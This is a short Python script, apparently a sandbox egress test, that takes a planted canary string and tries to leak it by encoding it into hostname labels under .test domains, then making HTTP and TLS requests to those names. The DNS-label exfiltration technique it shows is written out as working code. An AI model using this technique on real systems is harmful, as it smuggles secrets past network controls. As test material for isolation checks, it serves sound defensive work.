# Sends what is in a planted file as the name of a host, in labels, to whoever looks it up.
# network: held
from prelude import TOLD, canary, connect, get, say

word = canary().decode()
for name in (f"{word}.api.test", f"{word[:20]}.{word[20:]}.api.test", f"{'.'.join(word)}.test"):
    print(say(get(f"http://{name}:{TOLD['WEB']}/"))[:100], say(connect(f"{name}:{TOLD['TLS']}"))[:100])
print("tried")
